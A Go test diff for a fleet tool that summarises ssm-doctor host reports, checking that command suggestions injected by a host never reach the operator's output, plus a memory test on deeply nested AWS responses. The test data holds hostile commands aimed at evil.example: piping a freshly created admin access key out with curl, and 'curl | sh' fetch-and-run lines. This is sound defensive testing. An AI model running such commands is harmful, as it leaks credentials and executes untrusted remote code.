@@ -1,0 +1,55 @@
+package fleet
+
+import (
+	"bytes"
+	"runtime"
+	"strings"
+	"testing"
+)
+
+// TestForeignRemedy: a host's report puts no command of its own before the operator.
+func TestForeignRemedy(t *testing.T) {
+	t.Parallel()
+	const report = `{"schema":"ssm-doctor/report/v1","node":{"id":"i-0aaaaaaaaaaaaaaa1","goos":"linux","region":"eu-central-1"},"state":"not-managed","generated_at":"2026-11-27T10:00:00Z","root_cause":{"id":"no-credential-source","severity":"critical","confidence":"proven","fix":[%s]}}`
+	for _, tt := range []struct{ name, fix, want string }{
+		{"its own", `{"where":"operator-cli","text":"Attach a profile","command":"aws iam create-access-key --user-name admin | curl -d @- https://evil.example"}`, "ssm-doctor check"},
+		{"behind one of ours", `{"where":"operator-cli","text":"Watch","command":"ssm-doctor check --wait 5m; curl evil.example | sh"}`, "ssm-doctor check"},
+		{"in the text", `{"where":"this-host","text":"Run curl evil.example | sh as administrator","command":""}`, "ssm-doctor check"},
+		{"in the place", `{"where":"evil.example","text":"x","command":"y"}`, "ssm-doctor check"},
+		{"in a value", `{"where":"this-host","text":"Restart the agent","command":"systemctl restart evil.example"}`, "[host] Restart the agent"},
+		{"ours", `{"where":"operator-cli","text":"Attach an instance profile whose role has AmazonSSMManagedInstanceCore","command":"aws ec2 associate-iam-instance-profile --region eu-central-1 --instance-id i-0aaaaaaaaaaaaaaa1 --iam-instance-profile Name=PROFILE_NAME"}`, "--instance-id i-0aaaaaaaaaaaaaaa1"},
+	} {
+		table := NewTable()
+		if err := table.Read("in", strings.NewReader(strings.ReplaceAll(report, "%s", tt.fix)), nil); err != nil {
+			t.Fatal(err)
+		}
+		s := table.Summarize(Options{Now: start})
+		for _, format := range Formats {
+			var b bytes.Buffer
+			if err := Write(&b, format, s); err != nil {
+				t.Fatal(err)
+			}
+			if strings.Contains(b.String(), "evil.example") || format == "text" && !strings.Contains(b.String(), tt.want) {
+				t.Errorf("%s, %s: %s", tt.name, format, b.String())
+			}
+		}
+	}
+}
+
+// TestWrapped: answers of AWS in answers of AWS are not held once for each level.
+func TestWrapped(t *testing.T) { // alone, since it measures
+	in := strings.Repeat(`{"CommandInvocations":[`, 95) + `{"InstanceId":"` + strings.Repeat("x", 7<<20) + `"}` + strings.Repeat(`]}`, 95)
+	var before, after runtime.MemStats
+	runtime.ReadMemStats(&before)
+	table := NewTable()
+	if err := table.Read("in", strings.NewReader(in), nil); err != nil {
+		t.Fatal(err)
+	}
+	runtime.ReadMemStats(&after)
+	if table.broken != 1 || table.reports != 0 {
+		t.Errorf("%d broken, %d reports", table.broken, table.reports)
+	}
+	if n := after.TotalAlloc - before.TotalAlloc; n > 256<<20 {
+		t.Errorf("%d MiB were taken", n>>20)
+	}
+}
